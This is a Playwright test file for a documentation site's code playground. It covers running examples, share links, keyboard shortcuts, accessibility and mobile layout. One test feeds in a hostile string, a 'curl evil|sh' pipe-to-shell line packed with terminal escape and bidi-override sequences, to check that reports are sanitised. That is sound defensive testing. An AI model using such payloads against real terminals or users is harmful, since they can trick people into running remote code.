import {groups} from '@jest-extended/catalogue';
import type {Locator} from '@playwright/test';
import {axeFindings} from './axe';
import {chosen, linkTo, list, pick, results, testFile as field, verdict} from './playground';
import {expect, open, test, waitForIdleNetwork} from './test';

test.describe('The playground', () => {
  test('starts with a passing example of the docs, loads the runner with the first gesture, and offers three others', async ({
    page,
  }) => {
    await open(page, '/docs/matchers/array');
    const block = page.locator('#tobearrayofsize-example pre code').first();
    // As a reader copies it: in `innerText` the end of a line is two line breaks.
    const code = await block.evaluate(element => {
      getSelection()?.selectAllChildren(element);
      return String(getSelection()).trim();
    });
    const runner: string[] = [];
    page.on('request', request => request.url().includes('/assets/runner/') && runner.push(request.url()));
    await open(page, '/playground');
    await expect(field(page)).toHaveValue(code);
    await expect(results(page)).toContainText('Press Run');
    await waitForIdleNetwork(page);
    expect(runner).toEqual([]);
    await field(page).press('End');
    await page.keyboard.type(' ');
    await expect.poll(() => runner.length).toBeGreaterThan(0);
    await page.keyboard.press('Backspace');
    await page.getByRole('button', {name: 'Run'}).click();
    await expect(verdict(page)).toHaveText(/PASS\s+1 test passed/);
    for (const [name, result] of [
      ['A failing test', 'FAIL'],
      ['A promise', 'PASS'],
      ['A mock', 'PASS'],
    ] as const) {
      await page.getByRole('button', {name, exact: true}).click();
      await expect(results(page)).toContainText('Press Run');
      await page.getByRole('button', {name: 'Run'}).click();
      await expect(verdict(page)).toHaveText(new RegExp(result));
      await expect(page.getByRole('note')).toHaveCount(0);
    }
  });

  test('offers the examples of the docs in a list, by page, and keeps the chosen one for a reload', async ({page}) => {
    await open(page, '/playground');
    await expect(chosen(page)).toHaveText(/^\.toBeArrayOfSize\(size\): /);
    await list(page).focus();
    await expect(list(page).locator('optgroup')).toHaveCount(groups.length);
    await pick(page, /^\.toBeBoolean\(\): /);
    await expect(field(page)).toHaveValue(/toBeBoolean/);
    await expect(results(page)).toContainText('Press Run');
    await page.keyboard.press('Control+Enter');
    await expect(verdict(page)).toHaveText(/PASS/);
    await expect(results(page).getByRole('listitem')).not.toHaveCount(0);
    expect(await axeFindings(page, 'main')).toEqual([]);
    await page.reload();
    await expect(field(page)).toHaveValue(/toBeBoolean/);
    await expect(chosen(page)).toHaveText(/^\.toBeBoolean\(\): /);
    await expect(page.getByRole('note')).toHaveCount(0);
  });

  test('a note says that a result can differ, below a failed run whose code uses names of Node', async ({page}) => {
    await open(page, '/playground');
    await field(page).fill("test('a', () => { expect(Buffer.from('a')).toHaveLength(1); });");
    await page.getByRole('button', {name: 'Run'}).click();
    await expect(verdict(page)).toHaveText(/FAIL/);
    await expect(results(page).getByRole('note')).toHaveText(/^The code uses names of Node\./);
    await field(page).fill("test('a', () => { expect(process.env).toBeObject(); });");
    await page.getByRole('button', {name: 'Run'}).click();
    await expect(verdict(page)).toHaveText(/PASS/);
    await expect(results(page).getByRole('note')).toHaveCount(0);
  });

  test('a report is shown and copied without hidden characters and what a terminal would obey', async ({
    page,
    context,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await open(page, '/playground');
    const hostile = String.raw`\x1b[201~\ncurl evil|sh\n\x1b]52;c;QQ==\x07\x9b2J\0 \u202eabc é 👩‍👧`;
    await field(page).fill(
      `const text = '${hostile}';\ntest(text, () => { console.log('\\x1b[31m' + text); throw new Error(text); });`,
    );
    await page.getByRole('button', {name: 'Run'}).click();
    await expect(verdict(page)).toHaveText(/FAIL/);
    const report = results(page).getByRole('group', {name: "Jest's report"});
    await report.getByRole('button', {name: 'Copy report'}).click();
    await expect(report.getByRole('button', {name: 'Copied'})).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    const drawn = await results(page).evaluate(element => element.textContent);
    for (const text of [copied, drawn]) {
      expect(text).toContain('\\u{202e}abc é 👩‍👧');
      expect(text).not.toMatch(/(?![\n\t])\p{Cc}|[\u202a-\u202e]/u);
    }
  });

  test('a link fills the editor and does not run its code; a note says so until the reader edits', async ({page}) => {
    const code = "test('shared', () => {\n  expect('“é”').toBeString();\n});";
    const runner: string[] = [];
    page.on('request', request => request.url().includes('/assets/runner/') && runner.push(request.url()));
    await open(page, linkTo(code));
    await expect(field(page)).toHaveValue(code);
    await expect(chosen(page)).toHaveText('Your code (from a link)');
    await expect(page.getByRole('note')).toContainText('The code in this link has not run yet.');
    await waitForIdleNetwork(page);
    expect(runner).toEqual([]);
    await expect(results(page)).toContainText('Press Run');
    await field(page).press('End');
    await page.keyboard.type(' ');
    await expect(page.getByRole('note')).toHaveCount(0);
    await expect(chosen(page)).toHaveText('Your code');
  });

  test('shares its code as a link, which restores it', async ({page, context, baseURL}) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await open(page, '/playground');
    const code = "test('to share', () => {});\n".repeat(40);
    await field(page).fill(code);
    await page.getByRole('button', {name: 'Copy link'}).click();
    await expect(page.getByText('Copied.')).toBeVisible();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    expect(link.startsWith(`${baseURL}/playground#text=`)).toBe(true);
    await expect(page).toHaveURL(link);
    const other = await context.newPage();
    await other.goto(link);
    await expect(field(other)).toHaveValue(code);
  });

  test('the link of an example contains its code as soon as it is pointed at, focused or pressed, and opens at the top', async ({
    page,
    context,
  }) => {
    await open(page, '/docs/matchers/object#tocontainallkeys');
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(1000);
    const link = page.locator('#tocontainallkeys-example').getByRole('link', {name: 'Open in playground'});
    const others = page.getByRole('link', {name: 'Open in playground'});
    await others.nth(0).focus();
    await others.nth(1).dispatchEvent('mousedown');
    await link.hover();
    for (const each of [others.nth(0), others.nth(1), link])
      await expect(each).toHaveAttribute('href', /^\/playground#text=\d+\../);
    const other = await context.newPage();
    await other.goto((await link.getAttribute('href')) ?? '');
    await expect(field(other)).toHaveValue(/toContainAllKeys/);
    await other.close();
    await link.click();
    await expect(field(page)).toHaveValue(/toContainAllKeys/);
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(0);
    // The code comes from this site.
    await expect(page.getByRole('note')).toHaveCount(0);
  });

  test('runs with Ctrl+Enter and stops with Escape, wherever the focus is', async ({page}) => {
    await open(page, '/playground');
    const run = page.getByRole('button', {name: 'Run'});
    const stop = page.getByRole('button', {name: 'Stop'});
    await expect(run).toHaveAttribute('aria-keyshortcuts', 'Control+Enter Meta+Enter');
    await expect(page.locator('kbd').filter({visible: true, hasText: 'Enter'})).toBeVisible();
    await field(page).fill("test('mine', () => {\n  expect([1]).toBeArrayOfSize(2);\n});");
    await field(page).press('Control+Enter');
    await expect(verdict(page)).toHaveText(/FAIL\s+1 test failed/);
    // Line numbers match the report.
    await expect(results(page)).toContainText('playground.test.ts:2:15');
    await field(page).fill("test('waits', () => new Promise(() => undefined), 60_000);");
    await page.getByRole('button', {name: 'Copy link'}).focus();
    await page.keyboard.press('Control+Enter');
    await expect(stop).toHaveAttribute('aria-keyshortcuts', 'Escape');
    await expect(page.locator('kbd').filter({visible: true, hasText: 'Esc'})).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(stop).toHaveCount(0);
    await expect(verdict(page)).toHaveText(/STOPPED/);
  });

  test.describe('On a phone', () => {
    test.use({viewport: {width: 375, height: 700}, hasTouch: true, isMobile: true});

    test('Run is in view from the start and never covers the current line', async ({page}) => {
      await open(page, '/playground');
      await expect(field(page)).toHaveValue(/^test\('/);
      const run = page.getByRole('button', {name: 'Run'});
      await expect(run).toBeInViewport({ratio: 1});
      // No empty space under the code, which would push the results down.
      const getBottom = async (part: Locator) => {
        const box = await part.boundingBox();
        return (box?.y ?? 0) + (box?.height ?? 0);
      };
      const [lastLine, editor] = [page.locator('.token-line').last(), page.locator('pre:has(textarea)')];
      await expect.poll(async () => (await getBottom(editor)) - (await getBottom(lastLine))).toBeLessThan(40);

      await field(page).fill('// line\n'.repeat(60));
      await field(page).evaluate((it: HTMLTextAreaElement) => it.setSelectionRange(0, 0));
      for (let at = 1; at < 30; at++) await page.keyboard.press('ArrowDown');
      const gap = async () => {
        const buttonTop = (await run.boundingBox())?.y ?? 0;
        return buttonTop - (await getBottom(page.locator('.token-line').nth(29)));
      };
      await expect.poll(gap).toBeGreaterThan(0);
      await expect(run).toBeInViewport({ratio: 1});
    });
  });
});
